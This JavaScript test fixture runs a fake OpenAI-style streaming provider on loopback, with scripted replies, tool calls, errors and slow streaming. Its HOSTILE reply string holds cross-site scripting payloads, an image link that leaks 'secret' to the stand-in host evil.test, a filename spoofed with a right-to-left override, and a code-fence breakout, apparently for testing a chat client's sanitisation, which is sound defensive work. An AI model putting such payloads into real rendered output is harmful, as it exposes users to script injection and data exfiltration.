// A fake provider with OpenAI's API on loopback. Its reply depends on the last user message.
import { createServer } from 'node:http';

export const KEY = 'the-right-key';

/** A hostile reply. */
export const HOSTILE = [
  '<script>window.harmed = 1</script><img src="http://evil.test/a.png" onerror="window.harmed = 2">',
  '',
  '![secret](http://evil.test/picture.png?q=secret) and [a link](javascript:window.harmed=3) and [data](data:text/html,<script>window.harmed=4</script>)',
  '',
  '<svg onload="window.harmed=5"><a href="javascript:window.harmed=6">svg</a></svg> <iframe src="http://evil.test/frame"></iframe>',
  '',
  '<style>body { background: url(http://evil.test/style) }</style><base href="http://evil.test/">',
  '',
  'photo\u202egnp.exe and \u001b[31mred\u001b[0m and [fine](https://example.org/fine)',
  '',
  '```html" onmouseover="window.harmed=7',
  '</code></pre><script>window.harmed=8</script>',
  '```',
  '',
  '| <img src=x onerror=window.harmed=9> | b |',
  '|---|---|',
  '| ![x](//evil.test/cell.png) | 2 |',
  '',
  'END OF IT',
].join('\n');

/**
 * Starts the provider.
 *
 * `script(asked, round, messages, model)` may return a reply: `{ text }`, `{ tool: [name, input] }` (optionally after a
 * `text`), `{ fails }` (an error message) or `{ pieces, rate }` (pieces per second), each with an optional `usage` (input
 * and output tokens). `round` is the number of tool results since the last user message.
 */
export async function startProvider(script = () => null) {
  const waiting = [];
  const held = { reached: null };

  const reply = async (response, asked, messages, model, scripted) => {
    const head = { id: 'c', object: 'chat.completion.chunk', created: 1, model };
    const send = (choice) => response.write(`data: ${JSON.stringify({ ...head, choices: [{ index: 0, finish_reason: null, ...choice }] })}\n\n`);
    const say = (content) => send({ delta: { content } });
    const end = (reason = 'stop') => {
      send({ delta: {}, finish_reason: reason });
      const [prompt_tokens, completion_tokens] = scripted?.usage ?? [11, 7];
      response.write(`data: ${JSON.stringify({ ...head, choices: [], usage: { prompt_tokens, completion_tokens, total_tokens: prompt_tokens + completion_tokens } })}\n\n`);
      response.end('data: [DONE]\n\n');
    };
    send({ delta: { role: 'assistant', content: '' } });
    const hasResult = messages.at(-1)?.role === 'tool';
    if (scripted?.tool) {
      const [name, input] = scripted.tool;
      if (scripted.text) say(scripted.text);
      send({ delta: { tool_calls: [{ index: 0, id: `call_${messages.length}`, type: 'function', function: { name, arguments: JSON.stringify(input) } }] } });
      return end('tool_calls');
    } else if (scripted) {
      const begun = performance.now();
      for (const [i, piece] of (scripted.pieces ?? scripted.text.match(/[\s\S]{1,12}/g)).entries()) {
        const early = scripted.rate ? begun + (1000 * i) / scripted.rate - performance.now() : 0;
        if (early > 0) await new Promise((resolve) => setTimeout(resolve, early));
        say(piece);
      }
    } else if (/harm/.test(asked)) {
      for (const piece of HOSTILE.match(/[\s\S]{1,7}/g)) say(piece);
    } else if (/slowly/.test(asked)) {
      say('The first half. ');
      await new Promise((resolve) => {
        waiting.push(resolve);
        response.on('close', resolve);
        held.reached?.();
      });
      say('The second half.');
    } else if (/file/.test(asked) && !hasResult) {
      send({ delta: { tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'write_file', arguments: JSON.stringify({ path: 'note.txt', content: 'kept' }) } }] } });
      return end('tool_calls');
    } else if (/file/.test(asked)) {
      say('The file is **written**.');
    } else {
      say('You said: ');
      say(`*${asked.slice(0, 80)}*`);
    }
    end();
  };

  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += chunk));
    request.on('end', () => {
      if (request.headers.authorization !== `Bearer ${KEY}`) {
        response.writeHead(401, { 'Content-Type': 'application/json' });
        return response.end(JSON.stringify({ error: { message: 'Incorrect API key provided', type: 'invalid_request_error', code: 'invalid_api_key' } }));
      }
      if (request.url === '/v1/models') {
        response.writeHead(200, { 'Content-Type': 'application/json' });
        return response.end(JSON.stringify({ object: 'list', data: [{ id: 'fake-model', object: 'model', created: 1, owned_by: 'nobody' }] }));
      }
      const { messages = [], model = 'fake-model' } = JSON.parse(body || '{}');
      const last = messages.findLast(({ role }) => role === 'user')?.content ?? '';
      const asked = typeof last === 'string' ? last : last.map(({ text }) => text ?? '').join(' ');
      const round = messages.slice(messages.findLastIndex(({ role }) => role === 'user')).filter(({ role }) => role === 'tool').length;
      const scripted = script(asked, round, messages, model);
      if (scripted?.fails) {
        response.writeHead(400, { 'Content-Type': 'application/json' });
        return response.end(JSON.stringify({ error: { message: scripted.fails, type: 'invalid_request_error' } }));
      }
      response.writeHead(200, { 'Content-Type': 'text/event-stream' });
      void reply(response, asked, messages, model, scripted);
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}/v1`,
    /** Resolves when a slow reply has sent its first half. */
    halfway: () => new Promise((resolve) => (held.reached = resolve)),
    release: () => waiting.splice(0).forEach((resolve) => resolve()),
    stop: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
